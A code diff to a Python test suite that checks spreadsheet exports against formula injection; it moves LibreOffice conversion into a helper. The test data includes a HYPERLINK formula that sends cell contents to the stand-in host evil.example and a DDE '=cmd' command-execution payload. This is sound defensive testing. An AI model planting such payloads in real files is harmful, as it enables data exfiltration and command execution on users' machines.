@@ -5,8 +5,6 @@ from __future__ import annotations
 import csv
 import json
 import re
-import shutil
-import subprocess
 import zipfile
 from datetime import timedelta
 from pathlib import Path
@@ -19,7 +17,7 @@ from hypothesis import strategies as st
 
 from reporting.intake.hygiene import clean_text
 from reporting.report.export import write_records_csv
-from tests.conftest import WEEK, run_cli, weekly_args
+from tests.conftest import WEEK, libreoffice_resave, run_cli, weekly_args
 
 FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A2,"查看进度")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)")
 HOSTILE = (
@@ -120,17 +118,8 @@ def test_formulas_from_data_stay_text_in_the_workbook_and_escaped_in_csv(hostile
 
 
 def test_the_hostile_workbook_survives_libreoffice(hostile_run, tmp_path):
-    soffice = shutil.which("soffice") or shutil.which("libreoffice")
-    if soffice is None:
-        pytest.skip("LibreOffice 不可用：请安装 Debian 的 libreoffice-calc-nogui（make test 会自动安装）")
     _, folder, _ = hostile_run
-    result = subprocess.run(
-        [soffice, "--headless", "--norestore", f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
-         "--convert-to", "xlsx", "--outdir", str(tmp_path / "out"), str(folder / "workbook.xlsx")],
-        capture_output=True, text=True, timeout=300,
-    )  # fmt: skip
-    assert result.returncode == 0, result.stderr
-    converted = tmp_path / "out" / "workbook.xlsx"
+    converted = libreoffice_resave(folder / "workbook.xlsx", tmp_path)
     assert formula_cells(converted) == []
     written, saved = openpyxl.load_workbook(folder / "workbook.xlsx"), openpyxl.load_workbook(converted)
     for name in written.sheetnames:
